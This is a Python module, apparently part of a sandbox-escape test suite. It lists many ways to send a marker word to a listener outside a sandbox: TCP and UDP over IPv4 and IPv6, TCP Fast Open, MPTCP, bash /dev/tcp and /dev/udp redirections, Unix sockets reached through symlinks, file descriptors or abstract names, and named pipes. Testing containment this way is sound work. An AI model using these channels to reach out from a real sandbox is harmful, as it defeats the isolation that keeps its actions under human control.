"""Ways to say something to a listener outside. A victim is an address; the deed sends its own name there."""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
from typing import TYPE_CHECKING

from attack.escapes.deed import SOME_HOSTS, Victim, deed

if TYPE_CHECKING:
    from collections.abc import Sequence

IPV4, IPV6, UNIX = socket.AF_INET, socket.AF_INET6, socket.AF_UNIX
STREAM, DATAGRAM, SEQUENCE = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET
MPTCP = 262


def say(victim: Victim, family: int, kind: int, protocol: int = 0) -> None:
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(2)
        address = victim["address"]
        sock.connect(tuple(address) if isinstance(address, list) else address)
        sock.send(victim["word"].encode())


def run(argv: Sequence[str]) -> None:
    done = subprocess.run(argv, capture_output=True, timeout=3)
    if done.returncode:
        raise OSError(done.stderr.decode())


@deed("sockets")
def tcp(victim: Victim) -> None:
    say(victim, IPV4, STREAM)


@deed("sockets", SOME_HOSTS)
def tcp_over_ipv6(victim: Victim) -> None:
    say(victim, IPV6, STREAM)


@deed("sockets")
def tcp_to_a_mapped_address(victim: Victim) -> None:
    host, port = victim["address"]
    say({**victim, "address": [f"::ffff:{host}", port]}, IPV6, STREAM)


@deed("sockets")
def tcp_to_the_machine_by_its_wildcard(victim: Victim) -> None:
    say({**victim, "address": ["0.0.0.0", victim["address"][1]]}, IPV4, STREAM)


@deed("sockets", SOME_HOSTS)
def tcp_with_the_first_packet(victim: Victim) -> None:
    with socket.socket(IPV4, STREAM) as sock:
        sock.settimeout(2)
        sock.sendto(victim["word"].encode(), 0x2000_0000, tuple(victim["address"]))  # MSG_FASTOPEN


@deed("sockets", SOME_HOSTS)
def tcp_by_many_paths(victim: Victim) -> None:
    say(victim, IPV4, STREAM, MPTCP)


@deed("sockets")
def tcp_by_bash(victim: Victim) -> None:
    host, port = victim["address"]
    run(["bash", "-c", f"printf %s {victim['word']} >/dev/tcp/{host}/{port}"])


@deed("sockets")
def udp(victim: Victim) -> None:
    say(victim, IPV4, DATAGRAM)


@deed("sockets", SOME_HOSTS)
def udp_over_ipv6(victim: Victim) -> None:
    say(victim, IPV6, DATAGRAM)


@deed("sockets")
def udp_without_connecting(victim: Victim) -> None:
    with socket.socket(IPV4, DATAGRAM) as sock:
        sock.sendto(victim["word"].encode(), tuple(victim["address"]))


@deed("sockets")
def udp_by_bash(victim: Victim) -> None:
    host, port = victim["address"]
    run(["bash", "-c", f"printf %s {victim['word']} >/dev/udp/{host}/{port}"])


@deed("sockets")
def unix_in_run(victim: Victim) -> None:
    say(victim, UNIX, STREAM)


@deed("sockets")
def unix_in_tmp(victim: Victim) -> None:
    say(victim, UNIX, STREAM)


@deed("sockets")
def unix_in_the_home(victim: Victim) -> None:
    say(victim, UNIX, STREAM)


@deed("sockets")
def unix_beside_the_workspace(victim: Victim) -> None:
    say(victim, UNIX, STREAM)


@deed("sockets")
def unix_elsewhere(victim: Victim) -> None:
    say(victim, UNIX, STREAM)


@deed("sockets")
def unix_by_a_symlink(victim: Victim) -> None:
    os.symlink(victim["address"], "link")
    say({**victim, "address": "link"}, UNIX, STREAM)


@deed("sockets")
def unix_by_a_descriptor(victim: Victim) -> None:
    fd = os.open(victim["address"], os.O_PATH)
    say({**victim, "address": f"/proc/self/fd/{fd}"}, UNIX, STREAM)


@deed("sockets")
def unix_datagram_in_the_home(victim: Victim) -> None:
    say(victim, UNIX, DATAGRAM)


@deed("sockets")
def unix_datagram_without_connecting(victim: Victim) -> None:
    with socket.socket(UNIX, DATAGRAM) as sock:
        sock.sendto(victim["word"].encode(), victim["address"])


@deed("sockets")
def unix_sequence_in_the_home(victim: Victim) -> None:
    say(victim, UNIX, SEQUENCE)


@deed("sockets")
def unix_without_a_path(victim: Victim) -> None:
    say({**victim, "address": "\0" + victim["address"]}, UNIX, STREAM)


@deed("sockets")
def unix_datagram_without_a_path(victim: Victim) -> None:
    say({**victim, "address": "\0" + victim["address"]}, UNIX, DATAGRAM)


@deed("sockets")
def pipe_in_the_home(victim: Victim) -> None:
    fd = os.open(victim["address"], os.O_WRONLY | os.O_NONBLOCK)
    with contextlib.closing(os.fdopen(fd, "wb", buffering=0)) as pipe:
        pipe.write(victim["word"].encode())


@deed("sockets")
def pipe_beside_the_workspace(victim: Victim) -> None:
    pipe_in_the_home(victim)
